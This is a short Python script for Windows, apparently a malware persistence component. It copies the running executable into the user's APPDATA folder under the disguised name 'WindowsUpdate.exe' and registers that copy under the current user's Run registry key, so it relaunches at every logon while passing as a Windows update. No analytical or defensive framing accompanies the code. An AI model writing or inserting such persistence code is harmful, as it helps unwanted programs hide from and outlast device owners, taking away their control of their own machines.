import os
import shutil
import sys
import winreg

copy = os.path.join(os.environ["APPDATA"], "WindowsUpdate.exe")
shutil.copyfile(sys.executable, copy)
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, copy)
winreg.CloseKey(key)
